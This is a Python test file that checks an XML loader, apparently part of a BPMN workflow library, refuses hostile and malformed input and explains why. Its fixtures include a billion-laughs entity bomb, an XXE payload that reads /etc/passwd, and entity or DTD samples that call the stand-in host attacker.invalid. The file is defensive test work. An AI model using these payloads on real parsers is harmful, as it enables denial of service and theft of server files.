"""Hostile and broken XML never gets past caseflow.model.xml, and says why."""

from __future__ import annotations

import pytest

from caseflow.errors import DefinitionError, XmlError
from caseflow.model import load_definitions, parse_bpmn
from caseflow.model.xml import MAX_DOCUMENT_BYTES, load_xml

from .snippets import chain, process

GOOD = process('<startEvent id="s"/><endEvent id="e"/>' + chain("s", "e"))

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">
  <process id="p" name="&lol9;"/>
</definitions>
"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">
  <process id="p"><documentation>&xxe;</documentation></process>
</definitions>
"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "http://attacker.invalid/secret">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">
  <process id="p" name="&xxe;"/>
</definitions>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!-- a comment before the doctype does not hide it -->
<!DOCTYPE definitions SYSTEM "http://attacker.invalid/bpmn.dtd">
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>
"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>
"""


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (BILLION_LAUGHS, "entity declarations"),
        (XXE_FILE, "entity declarations"),
        (XXE_HTTP, "entity declarations"),
        (PARAMETER_ENTITY, "entity declarations"),
        (EXTERNAL_DTD, "line 3 has a DOCTYPE"),
        (PLAIN_DTD, "DOCTYPE declaration"),
    ],
    ids=["billion-laughs", "xxe-file", "xxe-http", "parameter-entity", "external-dtd", "dtd"],
)
def test_documents_with_a_dtd_are_refused_before_parsing(document: bytes, expected: str) -> None:
    with pytest.raises(XmlError) as info:
        parse_bpmn(document, resource_name="evil.bpmn")
    message = str(info.value)
    assert expected in message
    assert "evil.bpmn" in message
    assert "root:" not in message  # nothing of /etc/passwd ever shows up


def test_dtd_is_refused_in_str_and_utf16_input_too() -> None:
    with pytest.raises(XmlError, match="DOCTYPE"):
        parse_bpmn(BILLION_LAUGHS.decode())
    with pytest.raises(XmlError, match="DOCTYPE"):
        parse_bpmn(BILLION_LAUGHS.decode().encode("utf-16"))


def test_undeclared_entity_reference_is_malformed_not_expanded() -> None:
    doc = b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&xxe;</definitions>'
    with pytest.raises(XmlError, match=r"line 1, column \d+: Entity 'xxe' not defined"):
        parse_bpmn(doc)


def test_doctype_text_inside_cdata_is_no_false_alarm() -> None:
    doc = GOOD.replace(
        '<startEvent id="s"/>',
        '<startEvent id="s"><documentation><![CDATA[<!DOCTYPE html>]]></documentation>'
        "</startEvent>",
    )
    result = parse_bpmn(doc)
    assert result.definitions.process("p").node("s").documentation == "<!DOCTYPE html>"


def test_huge_input_is_refused_by_size() -> None:
    padding = " " * (MAX_DOCUMENT_BYTES + 1)
    with pytest.raises(XmlError, match="more than the limit"):
        parse_bpmn(GOOD.replace("<process", padding + "<process", 1).encode())
    with pytest.raises(XmlError, match="more than the limit"):
        load_xml(GOOD, max_bytes=100)


def test_deeply_nested_input_is_refused() -> None:
    doc = "<a>" * 10_000 + "</a>" * 10_000
    with pytest.raises(XmlError, match="malformed XML at line 1"):
        parse_bpmn(doc)


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (b"", "the document is empty"),
        (b"   \n ", "the document is empty"),
        (b"this is not xml", r"line 1, column 1: Start tag expected"),
        (b'{"definitions": []}', r"line 1, column 1"),
        (GOOD.replace("</process>", "").encode(), r"line \d+, column \d+: .*mismatch"),
        (GOOD.encode()[:-40], r"malformed XML at line \d+, column \d+"),
        (b"<a>\xff\xfe</a>", "malformed XML at line 1"),
    ],
    ids=["empty", "blank", "text", "json", "mismatched-tag", "truncated", "bad-utf8"],
)
def test_not_xml_is_an_xml_error_with_line_and_column(document: bytes, expected: str) -> None:
    with pytest.raises(XmlError, match=expected):
        parse_bpmn(document)


def test_load_definitions_raises_xml_error_for_bad_xml() -> None:
    with pytest.raises(XmlError):
        load_definitions(b"<definitions", "broken.bpmn")


@pytest.mark.parametrize(
    "document",
    [
        b"<html><body/></html>",
        b'<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/"/>',
        b"<definitions/>",
    ],
    ids=["html", "dmn", "no-namespace"],
)
def test_wrong_root_is_a_definition_error(document: bytes) -> None:
    with pytest.raises(DefinitionError, match=r"not a BPMN 2\.0 document") as info:
        parse_bpmn(document, resource_name="x.bpmn")
    assert not isinstance(info.value, XmlError)
    assert "x.bpmn" in str(info.value)


def test_wrong_argument_type_is_a_type_error() -> None:
    with pytest.raises(TypeError):
        parse_bpmn(123)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "encode",
    [
        lambda s: s,
        lambda s: s.encode(),
        lambda s: b"\xef\xbb\xbf" + s.encode(),
        lambda s: "\ufeff" + s,
        lambda s: s.encode("utf-16"),
        lambda s: s.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le"),
        lambda s: s.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1"),
        lambda s: s.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'),
        lambda s: s.split("?>", 1)[1].lstrip(),
    ],
    ids=[
        "str",
        "utf8",
        "utf8-bom",
        "str-bom",
        "utf16-bom",
        "utf16le-no-bom",
        "latin1",
        "str-declaring-latin1",
        "no-declaration",
    ],
)
def test_accepts_bytes_or_str_in_any_declared_encoding(encode: object) -> None:
    document = GOOD.replace('<startEvent id="s"/>', '<startEvent id="s" name="Größe"/>')
    result = parse_bpmn(encode(document))  # type: ignore[operator]
    assert result.definitions.process("p").node("s").name == "Größe"


def test_comments_and_processing_instructions_are_dropped() -> None:
    doc = GOOD.replace(
        '<startEvent id="s"/>', '<!-- c --><?pi x?><startEvent id="s"><!-- c --></startEvent>'
    )
    assert set(parse_bpmn(doc).definitions.process("p").nodes) == {"s", "e"}
